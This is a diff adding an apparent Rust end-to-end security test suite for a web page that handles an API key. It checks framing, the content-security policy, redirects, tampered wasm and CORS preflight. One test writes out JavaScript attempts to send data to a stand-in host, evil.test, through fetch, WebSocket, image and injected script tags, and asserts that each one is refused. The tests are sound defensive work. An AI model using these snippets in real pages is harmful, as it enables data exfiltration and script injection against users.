@@ -1,0 +1,106 @@
+//! What holds even when something is against the page: framing, a script that wants out, tampered files.
+
+use anyhow::{Context, Result, ensure};
+use e2e::harness::Stage;
+use e2e::ledger::CANARY;
+use e2e::pages::REPOSITORY;
+use e2e::proxy::{FOREIGN_HOST, PAGES_HOST};
+use e2e::script::Step;
+use serde_json::json;
+use thirtyfour::By;
+
+use super::same;
+
+pub(super) async fn inside_another_page_it_takes_no_key(stage: &Stage) -> Result<()> {
+    for host in [FOREIGN_HOST, PAGES_HOST] {
+        let frame = format!(
+            "<!DOCTYPE html><title>A frame</title><iframe src='https://{PAGES_HOST}{REPOSITORY}' width=900 height=700></iframe>"
+        );
+        stage.harness.pages.put(host, "/around/index.html", frame)?;
+        stage.page.visit(host, "/around/").await?;
+        let driver = stage.browser.driver();
+        driver.find(By::Css("iframe")).await?.enter_frame().await?;
+        stage.page.see("#framed").await.with_context(|| format!("framed by {host}"))?;
+        same!(
+            stage.page.count("#key, #test-key, input[type=password]").await?,
+            0,
+            "key fields framed by {host}"
+        );
+        driver.enter_default_frame().await?;
+    }
+    Ok(())
+}
+
+pub(super) async fn the_policy_lets_nothing_else_out(stage: &Stage) -> Result<()> {
+    stage.page.open().await?;
+    let page = &stage.page;
+    let attempts = [
+        "fetch('https://evil.test/').then(() => 'sent', () => 'refused')",
+        "fetch('https://codestral.mistral.ai/v1/models').then(() => 'sent', () => 'refused')",
+        "new Promise(done => { const socket = new WebSocket('wss://evil.test/'); \
+         socket.onopen = () => done('sent'); socket.onerror = () => done('refused'); })",
+        "new Promise(done => { const image = new Image(); image.onload = () => done('sent'); \
+         image.onerror = () => done('refused'); image.src = 'https://evil.test/image.png'; })",
+        "new Promise(done => { const script = document.createElement('script'); \
+         script.onload = () => done('sent'); script.onerror = () => done('refused'); \
+         script.src = 'https://evil.test/script.js'; document.head.append(script); })",
+    ];
+    for attempt in attempts {
+        // A thrown SecurityError is a refusal too.
+        let attempt = format!("(async () => {attempt})().catch(() => 'refused')");
+        same!(page.promise(&attempt, &[]).await?, json!("refused"), "{attempt}");
+    }
+    let inline = "(() => { const script = document.createElement('script'); script.textContent = 'window.ran = true'; \
+                  document.head.append(script); return window.ran === true; })()";
+    same!(page.value(inline, &[]).await?, json!(false), "an inline script ran");
+    // The search at the end of each journey fails for any stranger; this says it in this journey's words.
+    let evil: Vec<_> = stage.harness.ledger.strangers();
+    ensure!(evil.is_empty(), "connections were opened: {evil:?}");
+    Ok(())
+}
+
+pub(super) async fn a_redirect_is_not_followed(stage: &Stage) -> Result<()> {
+    // Both targets would be within the policy: the page's own host and another of Mistral's.
+    for target in ["https://pages.test/elsewhere/", "https://api.us.mistral.ai/v1/models"] {
+        let step = Step::empty(307).header("location", target);
+        stage.harness.mock.script().push("GET /v1/models", step);
+        stage.page.open().await?;
+        let verdict = stage.page.test(CANARY).await?;
+        ensure!(verdict.verdict != "works", "a redirect to {target} passed for Mistral's answer");
+    }
+    let requests = stage.harness.ledger.requests();
+    let followed = requests.iter().find(|it| it.path == "/elsewhere/" || it.host == "api.us.mistral.ai");
+    ensure!(followed.is_none(), "the redirect was followed: {followed:?}");
+    Ok(())
+}
+
+pub(super) async fn tampered_code_does_not_run(stage: &Stage) -> Result<()> {
+    stage.harness.pages.alter(".wasm", |bytes| {
+        if let Some(last) = bytes.last_mut() {
+            *last ^= 1;
+        }
+    })?;
+    stage.page.visit(PAGES_HOST, REPOSITORY).await?;
+    stage.page.see("#boot-failed").await?;
+    stage.page.see("[data-boot-reason=changed]").await?;
+    same!(stage.page.count("#key").await?, 0, "key fields");
+    Ok(())
+}
+
+pub(super) async fn a_refused_preflight_fails_the_call(stage: &Stage) -> Result<()> {
+    // The mock must be as strict as the real one, or the journeys would pass with a header that fails there.
+    stage.page.open().await?;
+    let ask = "fetch('https://api.mistral.ai/v1/models', { headers: arguments[0], referrerPolicy: 'no-referrer' }) \
+               .then(answer => answer.status + ' ' + answer.headers.get('mistral-correlation-id'), () => 'refused')";
+    let good = json!({ "Authorization": format!("Bearer {CANARY}") });
+    same!(
+        stage.page.promise(ask, &[good]).await?,
+        json!("200 null"),
+        "status, and a header that is not exposed"
+    );
+    for name in ["X-Api-Key", "X-Stainless-Lang"] {
+        same!(stage.page.promise(ask, &[json!({ name: "1" })]).await?, json!("refused"), "{name}");
+    }
+    same!(stage.harness.ledger.calls().len(), 1, "calls that got through");
+    Ok(())
+}
